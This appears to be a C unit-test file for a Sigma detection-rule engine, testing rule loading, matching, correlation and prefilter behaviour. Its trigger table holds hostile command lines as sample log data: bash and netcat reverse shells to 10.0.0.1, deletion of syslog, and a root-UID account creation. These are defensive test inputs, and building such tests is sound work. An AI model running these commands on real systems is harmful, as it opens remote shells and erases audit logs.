/*
 * test_sigma.c - Sigma rules: the conformance suite of tests/sigma/ (rule +
 * events expected to match or not), rules that must be refused with their
 * reason, the glob matcher, the built-in log source mapping against
 * rules/sigma/logsources.yml, and the SigmaHQ corpus of ../shared/corpus
 * (every rule loads or is rejected for an unsupported feature; the Linux,
 * antivirus and Defender rules fire on lines written to trigger them and
 * stay quiet on the real logs).  The repository root is $TOCSIN_TOP
 * (default ".").
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/err.h"
#include "common/util.h"
#include "rules/rules.h"
#include "rules/rules_int.h"
#include "rules/sigma/sigma.h"
#include "rules/correlate.h"
#include "engine/state.h"
#include "engine/engine_int.h"

#define REF_US	1769774400000000ULL

static const char *
top(void)
{
	const char *t = getenv("TOCSIN_TOP");

	return t != NULL && *t != '\0' ? t : ".";
}

static int
load(const char *const *paths, size_t n, ruleset_t **rs,
    struct rules_diags *dl)
{
	memset(dl, 0, sizeof(*dl));
	return ruleset_load(paths, n, rs, dl);
}

/* Whether any rule defined in file (NULL: any Sigma rule) matched line;
 * with id, whether that rule id matched. */
static int
fires(rules_ctx_t *ctx, const char *line, const char *file, const char *id)
{
	struct rules_event ev;
	struct rules_result res;

	memset(&ev, 0, sizeof(ev));
	ev.raw = line;
	ev.raw_len = strlen(line);
	ev.host = "h";
	ev.host_len = 1;
	ev.time_us = REF_US;
	assert_int_equal(rules_eval(ctx, &ev, &res), 0);
	for (size_t i = 0; i < res.nmatched; i++) {
		const struct rule_info *ri = res.matched[i];

		if (id != NULL && strcmp(ri->id, id) == 0)
			return 1;
		if (id == NULL && file != NULL && strcmp(ri->file, file) == 0)
			return 1;
		if (id == NULL && file == NULL) {
			for (size_t g = 0; g < ri->ngroups; g++)
				if (strcmp(ri->groups[g], "sigma") == 0)
					return 1;
		}
	}
	return 0;
}

/* Whether a Sigma rule other than except_id matched line. */
static int
fires_other(rules_ctx_t *ctx, const char *line, const char *except_id)
{
	struct rules_event ev;
	struct rules_result res;

	memset(&ev, 0, sizeof(ev));
	ev.raw = line;
	ev.raw_len = strlen(line);
	ev.host = "h";
	ev.host_len = 1;
	ev.time_us = REF_US;
	assert_int_equal(rules_eval(ctx, &ev, &res), 0);
	for (size_t i = 0; i < res.nmatched; i++) {
		const struct rule_info *ri = res.matched[i];

		if (strcmp(ri->id, except_id) == 0)
			continue;
		for (size_t g = 0; g < ri->ngroups; g++)
			if (strcmp(ri->groups[g], "sigma") == 0)
				return 1;
	}
	return 0;
}

/* SigmaHQ's "Suspicious File Copy" (lnx_file_copy.yml): keywords 'scp ',
 * 'rsync ', 'sftp ' and a filter '@' or ':'.  Keywords search the whole
 * line (the specification: "across an entire event"), and every syslog
 * line has ':' in its time and tag, so the rule fires on any line with
 * those letters, such as sshd's "Invalid user cmsftp from ...": the real
 * logs have a few, counted apart. */
#define SIGMA_FILE_COPY_ID	"7a14080d-a048-4de8-ae58-604ce58a795b"

static int
has_not_loaded(const struct rules_diags *dl)
{
	for (size_t i = 0; i < dl->n; i++)
		if (strstr(dl->d[i].msg, "not loaded") != NULL)
			return 1;
	return 0;
}

static int
ends_with(const char *s, const char *suf)
{
	size_t n = strlen(s), m = strlen(suf);

	return n >= m && strcmp(s + n - m, suf) == 0;
}

static int
name_cmp(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Files below dir ending in suf (recursively), sorted; caller frees. */
static size_t
list_files(const char *dir, const char *suf, char ***out, size_t n)
{
	DIR *d = opendir(dir);
	struct dirent *de;

	if (d == NULL)
		return n;
	while ((de = readdir(d)) != NULL) {
		char p[1024];
		struct stat st;

		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
		if (stat(p, &st) != 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			n = list_files(p, suf, out, n);
		} else if (ends_with(de->d_name, suf)) {
			*out = realloc(*out, (n + 1) * sizeof(**out));
			assert_non_null(*out);
			(*out)[n++] = strdup(p);
		}
	}
	closedir(d);
	qsort(*out, n, sizeof(**out), name_cmp);
	return n;
}

static void
free_list(char **v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		free(v[i]);
	free(v);
}

/* ---- conformance --------------------------------------------------------- */

static void
test_conformance(void **state)
{
	char dir[512], dec[512];
	char **cases = NULL;
	size_t ncases, checked = 0;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/tests/sigma/cases", top());
	snprintf(dec, sizeof(dec), "%s/tests/sigma/decoders.yml", top());
	ncases = list_files(dir, ".yml", &cases, 0);
	assert_true(ncases >= 20);
	for (size_t c = 0; c < ncases; c++) {
		const char *paths[2] = { dec, cases[c] };
		char evp[600], line[4096];
		struct rules_diags dl;
		ruleset_t *rs = NULL;
		rules_ctx_t *ctx;
		FILE *f;
		int rc = load(paths, 2, &rs, &dl);

		if (rc != 0 || has_not_loaded(&dl)) {
			rules_diags_print(&dl, stderr);
			fail_msg("%s: does not load", cases[c]);
		}
		rules_diags_free(&dl);
		ctx = rules_ctx_new(rs);
		assert_non_null(ctx);
		snprintf(evp, sizeof(evp), "%.*s.events",
		    (int)(strlen(cases[c]) - 4), cases[c]);
		f = fopen(evp, "r");
		if (f == NULL)
			fail_msg("%s: missing", evp);
		while (fgets(line, sizeof(line), f) != NULL) {
			size_t n = strlen(line);
			int want;

			while (n > 0 && (line[n - 1] == '\n' ||
			    line[n - 1] == '\r'))
				line[--n] = '\0';
			if (n == 0 || line[0] == '#')
				continue;
			assert_true(n > 2 && (line[0] == '+' ||
			    line[0] == '-') && line[1] == ' ');
			want = line[0] == '+';
			if (fires(ctx, line + 2, cases[c], NULL) != want)
				fail_msg("%s: %s should %smatch", evp, line + 2,
				    want ? "" : "not ");
			checked++;
		}
		fclose(f);
		rules_ctx_free(&ctx);
		ruleset_free(&rs);
	}
	assert_true(checked >= 100);
	free_list(cases, ncases);
}

/* Rules that must not load: tests/sigma/bad/NAME.yml whose first line is
 * "# expect: TEXT" (TEXT in a diagnostic); "# expect-error:" also needs
 * the load to fail. */
static void
test_rejections(void **state)
{
	char dir[512], dec[512];
	char **files = NULL;
	size_t n;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/tests/sigma/bad", top());
	snprintf(dec, sizeof(dec), "%s/tests/sigma/decoders.yml", top());
	n = list_files(dir, ".yml", &files, 0);
	assert_true(n >= 8);
	for (size_t i = 0; i < n; i++) {
		const char *paths[2] = { dec, files[i] };
		char first[512], *want;
		struct rules_diags dl;
		ruleset_t *rs = NULL;
		FILE *f = fopen(files[i], "r");
		int found = 0, iserr, rc;

		assert_non_null(f);
		assert_non_null(fgets(first, sizeof(first), f));
		fclose(f);
		first[strcspn(first, "\n")] = '\0';
		iserr = strncmp(first, "# expect-error: ", 16) == 0;
		assert_true(iserr || strncmp(first, "# expect: ", 10) == 0);
		want = first + (iserr ? 16 : 10);
		rc = load(paths, 2, &rs, &dl);
		for (size_t k = 0; k < dl.n; k++)
			if (strstr(dl.d[k].msg, want) != NULL &&
			    dl.d[k].line > 0)
				found = 1;
		if (!found || (iserr && rc == 0) ||
		    (!iserr && (rc != 0 || ruleset_rule_count(rs) != 0))) {
			rules_diags_print(&dl, stderr);
			fail_msg("%s: want %s '%s'", files[i],
			    iserr ? "error" : "not loaded", want);
		}
		rules_diags_free(&dl);
		ruleset_free(&rs);
	}
	free_list(files, n);
}

/* ---- pieces ----------------------------------------------------------------- */

static void
test_glob(void **state)
{
	const char star[] = { 'a', SIGMA_GLOB_ESC, SIGMA_GLOB_STAR, 'c', 0 };
	const char one[] = { 'a', SIGMA_GLOB_ESC, SIGMA_GLOB_ONE, 'c', 0 };
	const char lit[] = { 'a', SIGMA_GLOB_ESC, SIGMA_GLOB_ESC, 0 };
	const char tail[] = { SIGMA_GLOB_ESC, SIGMA_GLOB_STAR, 'a', 'b',
	    SIGMA_GLOB_ESC, SIGMA_GLOB_STAR, 0 };

	(void)state;
	assert_true(sigma_glob_match("abbbc", 5, star, 4, 0));
	assert_true(sigma_glob_match("ac", 2, star, 4, 0));
	assert_false(sigma_glob_match("acx", 3, star, 4, 0));
	assert_true(sigma_glob_match("AXC", 3, one, 4, 1));
	assert_false(sigma_glob_match("AXC", 3, one, 4, 0));
	assert_false(sigma_glob_match("ac", 2, one, 4, 1));
	assert_true(sigma_glob_match("a\xff", 2, lit, 3, 0));
	assert_true(sigma_glob_match("xxaabxx", 7, tail, 6, 1));
	assert_false(sigma_glob_match("xxaxbxx", 7, tail, 6, 1));
	assert_true(sigma_num_cmp(" 12 ", 4, "11.5", LEAF_CMP_GT));
	assert_false(sigma_num_cmp("nan", 3, "1", LEAF_CMP_GT));
	assert_true(sigma_str_cmp("Hello", 5, "ELL", 3, LEAF_CONTAINS, 1));
	/* "*lit*" (the caseless contains most Sigma values become) against
	 * a plain search, on random strings over a small alphabet */
	{
		static const char abc[] = "aAbB.\x01";
		uint64_t r = 88172645463325252ull;
		size_t hits = 0;

		for (int it = 0; it < 20000; it++) {
			char sv[24], pat[12];
			size_t sn, ln, i;
			int nocase, want = 0;

#define RND() (r ^= r << 13, r ^= r >> 7, r ^= r << 17, r)
			sn = RND() % sizeof(sv);
			ln = 1 + RND() % 4;
			nocase = (int)(RND() % 2);
			for (i = 0; i < sn; i++)
				sv[i] = abc[RND() % (sizeof(abc) - 1)];
			pat[0] = SIGMA_GLOB_ESC;
			pat[1] = SIGMA_GLOB_STAR;
			for (i = 0; i < ln; i++)
				pat[2 + i] = abc[RND() % (sizeof(abc) - 1)];
			pat[2 + ln] = SIGMA_GLOB_ESC;
			pat[3 + ln] = SIGMA_GLOB_STAR;
#undef RND
			for (i = 0; i + ln <= sn && !want; i++)
				want = sigma_str_cmp(sv + i, ln, pat + 2, ln,
				    LEAF_EQUALS, nocase);
			hits += (size_t)want;
			if (sigma_glob_match(sv, sn, pat, ln + 4, nocase) != want)
				fail_msg("'*%.*s*' in '%.*s' (nocase %d): want %d",
				    (int)ln, pat + 2, (int)sn, sv, nocase, want);
		}
		assert_true(hits > 1000);
	}
}

/* The built-in mapping is the shipped rules/sigma/logsources.yml. */
static void
test_mapping_file(void **state)
{
	char p[512], *buf;
	FILE *f;
	long n;

	(void)state;
	snprintf(p, sizeof(p), "%s/rules/sigma/logsources.yml", top());
	f = fopen(p, "rb");
	assert_non_null(f);
	assert_int_equal(fseek(f, 0, SEEK_END), 0);
	n = ftell(f);
	rewind(f);
	buf = calloc(1, (size_t)n + 1);
	assert_non_null(buf);
	assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	assert_string_equal(buf, sigma_default_logsources);
	free(buf);
}

/* Alert metadata: level mapping, ATT&CK ids, author. */
static void
test_metadata(void **state)
{
	char p[512], dec[512];
	const char *paths[2];
	struct rules_diags dl;
	ruleset_t *rs = NULL;
	const struct rule_info *ri = NULL;

	(void)state;
	snprintf(p, sizeof(p), "%s/tests/sigma/cases/keywords.yml", top());
	snprintf(dec, sizeof(dec), "%s/tests/sigma/decoders.yml", top());
	paths[0] = dec;
	paths[1] = p;
	assert_int_equal(load(paths, 2, &rs, &dl), 0);
	for (size_t i = 0; i < rs->nrules; i++)
		if (strcmp(rs->rules[i]->id, "conf-keywords") == 0)
			ri = &rs->rules[i]->info;
	assert_non_null(ri);
	assert_int_equal(ri->level, 10);
	assert_string_equal(ri->author, "tocsin");
	assert_int_equal(ri->nmitre, 2);
	assert_string_equal(ri->mitre[0], "T1059.004");
	assert_string_equal(ri->mitre[1], "TA0002");
	assert_string_equal(ri->title,
	    "keywords are case-insensitive substrings with wildcards");
	rules_diags_free(&dl);
	ruleset_free(&rs);
}

/* ---- the SigmaHQ corpus --------------------------------------------------- */

/* Reasons a corpus rule may be rejected for: features this engine does not
 * run.  Any other rejection fails the test. */
static const char *const unsupported[] = {
	"not supported", "is not in the Sigma log source mapping",
	"aggregation", NULL,
};

static void
test_corpus_loads(void **state)
{
	char dir[512];
	char **files = NULL;
	size_t n, loaded = 0, rejected = 0;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/../shared/corpus/sigma/rules", top());
	n = list_files(dir, ".yml", &files, 0);
	if (n == 0) {
		print_message("# SKIP: no Sigma corpus at %s\n", dir);
		skip();
	}
	for (size_t i = 0; i < n; i++) {
		const char *paths[1] = { files[i] };
		struct rules_diags dl;
		ruleset_t *rs = NULL;
		int rc = load(paths, 1, &rs, &dl);

		if (rc != 0) {
			rules_diags_print(&dl, stderr);
			fail_msg("%s: refused", files[i]);
		}
		if (ruleset_rule_count(rs) > 0) {
			loaded += ruleset_rule_count(rs);
		} else {
			int ok = 0;

			for (size_t k = 0; k < dl.n; k++)
				for (size_t u = 0; unsupported[u] != NULL; u++)
					if (strstr(dl.d[k].msg,
					    unsupported[u]) != NULL &&
					    dl.d[k].line > 0)
						ok = 1;
			rules_diags_print(&dl, stderr);
			if (!ok)
				fail_msg("%s: rejected without a reason",
				    files[i]);
			rejected++;
		}
		rules_diags_free(&dl);
		ruleset_free(&rs);
	}
	print_message("# Sigma corpus: %zu files, %zu rules loaded, %zu "
	    "rejected\n", n, loaded, rejected);
	/* every rule of the corpus uses supported features only */
	assert_int_equal(rejected, 0);
	assert_int_equal(loaded, n);
	free_list(files, n);
}

struct trigger {
	const char	*line;
	const char	*id;
};

static const struct trigger triggers[] = {
	/* ClamAV */
	{ "Nov 27 10:00:00 web1 clamd[812]: /var/www/up/x.php: "
	  "Win.Trojan.Agent-1 FOUND", "36aa86ca-fd9d-4456-814e-d3b1b8e1e0bb" },
	{ "Nov 27 10:00:00 web1 clamd[812]: /var/www/up/shell.php: "
	  "Php.Webshell.Chopper-1 FOUND",
	  "fdf135a2-9241-4f96-a114-bb404948f736" },
	{ "Nov 27 10:00:00 web1 clamd[812]: /tmp/m.exe: "
	  "Win.Tool.Mimikatz-6 FOUND",
	  "78cc2dd2-7d20-4d32-93ff-057084c38b93" },
	{ "Nov 27 10:00:00 web1 clamd[812]: /tmp/m.exe: "
	  "Win.Tool.Mimikatz-6 FOUND",
	  "fa0c05b6-8ad3-468d-8231-c1cbccb64fba" },
	{ "Nov 27 10:00:00 web1 clamd[812]: /tmp/beacon.bin: "
	  "Multios.Backdoor.Meterpreter-1 FOUND",
	  "238527ad-3c2c-4e4f-a1f6-92fd63adb864" },
	{ "Nov 27 10:00:00 web1 clamd[812]: /home/u/l.exe: "
	  "Win.Ransomware.Lockbit-1 FOUND",
	  "4c6ca276-d4d0-4a8c-9e4c-d69832f8671f" },
	{ "Nov 27 10:00:00 web1 clamd[812]: /srv/www/x.jsp: "
	  "Unix.Malware.Agent-1 FOUND",
	  "c9a88268-0047-4824-ba6e-4d81ce0b907c" },
	/* user creation */
	{ "Nov 27 10:00:00 srv useradd[1337]: new user: name=john, UID=0, "
	  "GID=0, home=/home/john, shell=/bin/bash",
	  "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e" },
	/* reverse shells in syslog */
	{ "Nov 27 10:00:00 srv bash[999]: bash -i >& /dev/tcp/10.0.0.1/4444 "
	  "0>&1", "738d9bcf-6999-4fdb-b4ac-3033037db8ab" },
	{ "Nov 27 10:00:00 srv bash[999]: bash -i >& /dev/tcp/10.0.0.1/4444 "
	  "0>&1", "6cc5fceb-9a71-4c23-aeeb-963abe0b279c" },
	{ "Nov 27 10:00:00 srv bash[999]: nc -e /bin/sh 10.0.0.1 4444",
	  "738d9bcf-6999-4fdb-b4ac-3033037db8ab" },
	{ "Nov 27 10:00:00 srv bash[999]: bash -c /bin/bash 0<&196 "
	  "1>&/dev/tcp/10.1.1.1/80", "8ec2c8b4-557a-4121-b87c-5dfb3a602fae" },
	/* others */
	{ "Nov 27 10:00:00 srv sshd[1]: Corrupted MAC on input.",
	  "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc" },
	{ "Nov 27 10:00:00 srv crontab[5]: (root) REPLACE (root)",
	  "af202fd3-7bff-4212-a25a-fb34606cfcbe" },
	{ "Nov 27 10:00:00 srv bash[9]: rm -rf /var/log/syslog",
	  "e09eb557-96d2-4de9-ba2d-30f712a5afd3" },
	{ "Nov 27 10:00:00 srv vsftpd[9]: Connection refused: too many "
	  "sessions for this address.", "377f33a1-4b36-4ee1-acee-1dbe4b43cfbe" },
	/* Defender events forwarded as JSON */
	{ "{\"winlog\":{\"channel\":\"Microsoft-Windows-Windows Defender/"
	  "Operational\",\"event_id\":5001}}",
	  "b28e58e4-2a72-4fae-bdee-0fbe904db642" },
	{ "{\"EventID\":5001,\"Channel\":\"Microsoft-Windows-Windows "
	  "Defender/Operational\"}", "b28e58e4-2a72-4fae-bdee-0fbe904db642" },
	{ "{\"winlog\":{\"channel\":\"Microsoft-Windows-Windows Defender/"
	  "Operational\",\"event_id\":1116,\"event_data\":{\"SourceName\":"
	  "\"AMSI\"}}}", "ea9bf0fa-edec-4fb8-8b78-b119f2528186" },
	{ "{\"winlog\":{\"channel\":\"Microsoft-Windows-Windows Defender/"
	  "Operational\",\"event_id\":5007,\"event_data\":{\"New Value\":"
	  "\"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Exclusions"
	  "\\\\Paths\\\\C:\\\\x = 0x0\"}}}",
	  "1321dc4e-a1fe-481d-a016-52c45f0c8b4f" },
};

/* Lines that must not raise those alerts (near misses). */
static const struct trigger quiet[] = {
	{ "Nov 27 10:00:00 web1 clamd[812]: /var/www/up/x.php: OK",
	  "36aa86ca-fd9d-4456-814e-d3b1b8e1e0bb" },
	{ "Nov 27 10:00:00 srv useradd[1337]: new user: name=bob, UID=1001, "
	  "GID=1001, home=/home/bob, shell=/bin/bash",
	  "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e" },
	{ "Nov 27 10:00:00 srv bash[9]: mv /var/log/syslog.1 /tmp",
	  "e09eb557-96d2-4de9-ba2d-30f712a5afd3" },
	{ "Nov 27 10:00:00 srv other[5]: (root) REPLACE (root)",
	  "af202fd3-7bff-4212-a25a-fb34606cfcbe" },
	{ "{\"winlog\":{\"channel\":\"Microsoft-Windows-Windows Defender/"
	  "Operational\",\"event_id\":5002}}",
	  "b28e58e4-2a72-4fae-bdee-0fbe904db642" },
	{ "{\"winlog\":{\"channel\":\"Security\",\"event_id\":5001}}",
	  "b28e58e4-2a72-4fae-bdee-0fbe904db642" },
};

static void
test_corpus_fires(void **state)
{
	char dir[512], dec[512], rootly[512];
	const char *paths[2];
	struct rules_diags dl;
	ruleset_t *rs = NULL;
	rules_ctx_t *ctx;
	char **logs = NULL;
	size_t nlogs, lines = 0, noisy = 0, file_copy = 0;
	struct stat st;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/../shared/corpus/sigma/rules", top());
	snprintf(dec, sizeof(dec), "%s/tests/sigma/corpus_decoders.yml",
	    top());
	if (stat(dir, &st) != 0) {
		print_message("# SKIP: no Sigma corpus at %s\n", dir);
		skip();
	}
	paths[0] = dec;
	paths[1] = dir;
	if (load(paths, 2, &rs, &dl) != 0) {
		rules_diags_print(&dl, stderr);
		fail_msg("corpus with decoders: refused");
	}
	rules_diags_free(&dl);
	ctx = rules_ctx_new(rs);
	assert_non_null(ctx);
	for (size_t i = 0; i < sizeof(triggers) / sizeof(triggers[0]); i++)
		if (!fires(ctx, triggers[i].line, NULL, triggers[i].id))
			fail_msg("rule %s does not fire on: %s", triggers[i].id,
			    triggers[i].line);
	for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++)
		if (fires(ctx, quiet[i].line, NULL, quiet[i].id))
			fail_msg("rule %s fires on: %s", quiet[i].id,
			    quiet[i].line);
	/* the real logs raise nothing */
	snprintf(rootly, sizeof(rootly), "%s/../shared/corpus/rootly", top());
	nlogs = list_files(rootly, ".log", &logs, 0);
	for (size_t i = 0; i < nlogs; i++) {
		FILE *f = fopen(logs[i], "r");
		char line[8192];

		assert_non_null(f);
		while (fgets(line, sizeof(line), f) != NULL) {
			line[strcspn(line, "\n")] = '\0';
			lines++;
			if (fires(ctx, line, NULL, SIGMA_FILE_COPY_ID)) {
				/* its keywords are in the line, as
				 * substrings */
				if (strstr(line, "scp ") == NULL &&
				    strstr(line, "sftp ") == NULL &&
				    strstr(line, "rsync ") == NULL)
					fail_msg("file copy rule on: %s",
					    line);
				file_copy++;
			}
			if (fires_other(ctx, line, SIGMA_FILE_COPY_ID)) {
				if (noisy < 5)
					print_message("# Sigma alert on: %s\n",
					    line);
				noisy++;
			}
		}
		fclose(f);
	}
	print_message("# %zu real log lines, %zu Sigma matches (and %zu of "
	    "the file copy keywords, in user names)\n", lines, noisy,
	    file_copy);
	assert_int_equal(noisy, 0);
	free_list(logs, nlogs);
	rules_ctx_free(&ctx);
	ruleset_free(&rs);
}

/* ---- correlation rules ------------------------------------------------------ */

struct cfired {
	size_t		n;
	char		rule[128];
	uint32_t	count;
};

static int
corr_on_fire(const struct corr_fire *cf, void *arg)
{
	struct cfired *x = arg;

	snprintf(x->rule, sizeof(x->rule), "%s", cf->rule->id);
	x->count = cf->count;
	x->n++;
	return 0;
}

/* "SECONDS[.UUUUUU]" at s into microseconds; *end after it. */
static uint64_t
corr_offset(const char *s, const char **end)
{
	uint64_t sec = 0, us = 0;
	size_t i = 0, k;

	for (; s[i] >= '0' && s[i] <= '9' && i < 12; i++)
		sec = sec * 10 + (uint64_t)(s[i] - '0');
	if (s[i] == '.')
		for (i++, k = 0; k < 6; k++, i++) {
			assert_true(s[i] >= '0' && s[i] <= '9');
			us = us * 10 + (uint64_t)(s[i] - '0');
		}
	*end = s + i;
	return sec * 1000000ULL + us;
}

/*
 * tests/sigma/corr/NAME.yml (a correlation and its base rules, one file)
 * with NAME.events: "SECONDS[.USEC] +|- EVENT", + when the correlation
 * fires on that event (and only then).  Each event goes through rules_eval
 * and the engine's correlation (corr_eval on a state), as in the engine.
 */
static void
test_correlation(void **state)
{
	char dir[512], dec[512], sdir[64];
	char **cases = NULL;
	size_t ncases, checked = 0;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/tests/sigma/corr", top());
	snprintf(dec, sizeof(dec), "%s/tests/sigma/decoders.yml", top());
	ncases = list_files(dir, ".yml", &cases, 0);
	assert_true(ncases >= 4);
	for (size_t i = 0; i < ncases; i++) {
		const char *paths[2] = { dec, cases[i] };
		struct rules_diags dl;
		struct corr_counters cc;
		struct cfired x;
		ruleset_t *rs = NULL;
		rules_ctx_t *ctx;
		const corr_set_t *cs;
		state_t *st = NULL;
		char evp[1024], line[2048], cmd[128];
		uint64_t alert = 1;
		FILE *f;
		int lno = 0;

		assert_int_equal(load(paths, 2, &rs, &dl), 0);
		assert_non_null(cs = ruleset_corr(rs));
		if (has_not_loaded(&dl) || dl.errors > 0) {
			rules_diags_print(&dl, stderr);
			fail_msg("%s: not loaded", cases[i]);
		}
		rules_diags_free(&dl);
		assert_int_equal(corr_set_count(cs), 1);
		assert_non_null(ctx = rules_ctx_new(rs));
		strcpy(sdir, "/tmp/tocsin-test-sigma-XXXXXX");
		assert_non_null(mkdtemp(sdir));
		assert_int_equal(state_open(sdir, 0, 1 << 20, &st), 0);
		memset(&cc, 0, sizeof(cc));
		memset(&x, 0, sizeof(x));
		snprintf(evp, sizeof(evp), "%.*s.events",
		    (int)(strlen(cases[i]) - 4), cases[i]);
		assert_non_null(f = fopen(evp, "r"));
		while (fgets(line, sizeof(line), f) != NULL) {
			struct rules_event ev;
			struct rules_result res;
			const char *p, *json;
			uint64_t t;
			size_t before = x.n;
			int want;

			lno++;
			line[strcspn(line, "\n")] = '\0';
			if (line[0] == '#' || line[0] == '\0')
				continue;
			t = REF_US + corr_offset(line, &p);
			assert_true(p[0] == ' ' && (p[1] == '+' || p[1] == '-')
			    && p[2] == ' ');
			want = p[1] == '+';
			json = p + 3;
			memset(&ev, 0, sizeof(ev));
			ev.raw = json;
			ev.raw_len = strlen(json);
			ev.host = "h";
			ev.host_len = 1;
			ev.time_us = t;
			assert_int_equal(rules_eval(ctx, &ev, &res), 0);
			if (res.nmatched > 0) {
				state_txn_t *tx;

				assert_int_equal(state_begin(st, &tx), 0);
				assert_int_equal(corr_eval(tx, cs, &res, t,
				    NULL, alert++, REF_US, &cc, corr_on_fire,
				    &x), 0);
				assert_int_equal(state_commit(&tx), 0);
			}
			if (x.n - before != (size_t)want)
				fail_msg("%s:%d: want %s: %s", evp, lno,
				    want ? "a correlation alert" : "none",
				    json);
			if (want)
				assert_string_equal(x.rule,
				    corr_set_rule(cs, 0)->id);
			checked++;
		}
		fclose(f);
		state_close(&st);
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", sdir);
		assert_int_equal(system(cmd), 0);
		rules_ctx_free(&ctx);
		ruleset_free(&rs);
	}
	print_message("# %zu correlation cases, %zu events\n", ncases,
	    checked);
	assert_true(checked >= 30);
	free_list(cases, ncases);
}

/* ---- the prefilter changes nothing ------------------------------------------ */

/* Whether two results are the same, field by field. */
static int
same_result(const struct rules_result *a, const struct rules_result *b)
{
	int same = (a->decoder == NULL) == (b->decoder == NULL) &&
	    (a->decoder == NULL || strcmp(a->decoder, b->decoder) == 0) &&
	    a->nfields == b->nfields && a->nmatched == b->nmatched &&
	    a->nalerts == b->nalerts && a->time_us == b->time_us;

	for (size_t i = 0; same && i < a->nfields; i++)
		same = strcmp(a->fields[i].name, b->fields[i].name) == 0 &&
		    a->fields[i].len == b->fields[i].len &&
		    memcmp(a->fields[i].val, b->fields[i].val,
		    a->fields[i].len) == 0;
	for (size_t i = 0; same && i < a->nmatched; i++)
		same = strcmp(a->matched[i]->id, b->matched[i]->id) == 0;
	for (size_t i = 0; same && i < a->nalerts; i++)
		same = strcmp(a->alerts[i]->id, b->alerts[i]->id) == 0;
	return same;
}

struct pfeq {
	rules_ctx_t	*with, *without;
	size_t		 lines, matched, sigma;
};

/* Evaluate line (len) with and without the prefilter; fail if they differ.
 * The line is also tried in upper case (the caseless literals). */
static void
pfeq_line(struct pfeq *q, const char *line, size_t len)
{
	char up[4096];

	for (int pass = 0; pass < 2; pass++) {
		struct rules_event ev;
		struct rules_result a, b;

		if (pass == 1) {
			if (len >= sizeof(up))
				break;
			for (size_t i = 0; i < len; i++)
				up[i] = (line[i] >= 'a' && line[i] <= 'z') ?
				    (char)(line[i] - 32) : line[i];
			line = up;
		}
		memset(&ev, 0, sizeof(ev));
		ev.raw = line;
		ev.raw_len = len;
		ev.host = "h";
		ev.host_len = 1;
		ev.time_us = REF_US;
		assert_int_equal(rules_eval(q->with, &ev, &a), 0);
		assert_int_equal(rules_eval(q->without, &ev, &b), 0);
		if (!same_result(&a, &b))
			fail_msg("the prefilter changes the result of: %.*s",
			    (int)len, line);
		q->lines++;
		q->matched += a.nmatched > 0;
		for (size_t i = 0; i < a.nmatched; i++)
			if (a.matched[i]->ngroups > 0 &&
			    strcmp(a.matched[i]->groups[
			    a.matched[i]->ngroups - 1], "sigma") == 0) {
				q->sigma++;
				break;
			}
	}
}

/* Load paths twice, the second without its prefilter databases. */
static void
pfeq_open(struct pfeq *q, const char *const *paths, size_t n,
    ruleset_t **with, ruleset_t **without, int need_pf)
{
	struct rules_diags dl;
	int has_pf = 0;

	memset(q, 0, sizeof(*q));
	if (load(paths, n, with, &dl) != 0) {
		rules_diags_print(&dl, stderr);
		fail_msg("rule set refused");
	}
	rules_diags_free(&dl);
	assert_int_equal(load(paths, n, without, &dl), 0);
	rules_diags_free(&dl);
	prefilter_free(*without);
	for (size_t i = 0; i < (*with)->nroutes; i++)
		has_pf |= (*with)->routes[i].pf != NULL;
	has_pf |= (*with)->any.pf != NULL;
	if (need_pf)
		assert_true(has_pf);
	assert_non_null(q->with = rules_ctx_new(*with));
	assert_non_null(q->without = rules_ctx_new(*without));
}

static void
pfeq_close(struct pfeq *q, ruleset_t **with, ruleset_t **without)
{
	rules_ctx_free(&q->with);
	rules_ctx_free(&q->without);
	ruleset_free(with);
	ruleset_free(without);
}

/*
 * The SigmaHQ corpus beside rules/default gives the same results with and
 * without the prefilter on the real logs and on the lines written to
 * trigger the rules (and each in upper case); so does the conformance
 * suite on its events.
 */
static void
test_prefilter_equivalence(void **state)
{
	char sig[512], def[512], rootly[512], dir[512], dec[512];
	const char *paths[2];
	ruleset_t *with = NULL, *without = NULL;
	struct pfeq q;
	char **files = NULL, *line = NULL;
	size_t nfiles, cap = 0;
	ssize_t n;
	struct stat st;

	(void)state;
	snprintf(sig, sizeof(sig), "%s/../shared/corpus/sigma/rules", top());
	snprintf(def, sizeof(def), "%s/rules/default", top());
	snprintf(rootly, sizeof(rootly), "%s/../shared/corpus/rootly", top());
	if (stat(sig, &st) == 0) {
		paths[0] = def;
		paths[1] = sig;
		pfeq_open(&q, paths, 2, &with, &without, 1);
		nfiles = list_files(rootly, ".log", &files, 0);
		for (size_t i = 0; i < nfiles; i++) {
			FILE *f = fopen(files[i], "r");
			size_t k = 0;

			assert_non_null(f);
			while ((n = getline(&line, &cap, f)) > 0 &&
			    k++ < 100000)
				pfeq_line(&q, line, (size_t)(line[n - 1] ==
				    '\n' ? n - 1 : n));
			fclose(f);
		}
		free_list(files, nfiles);
		for (size_t i = 0; i < sizeof(triggers) / sizeof(triggers[0]);
		    i++)
			pfeq_line(&q, triggers[i].line,
			    strlen(triggers[i].line));
		for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++)
			pfeq_line(&q, quiet[i].line, strlen(quiet[i].line));
		print_message("# corpus: %zu lines, %zu matched, %zu by Sigma "
		    "rules: same with and without the prefilter\n", q.lines,
		    q.matched, q.sigma);
		assert_true(q.sigma > 0);
		pfeq_close(&q, &with, &without);
	} else
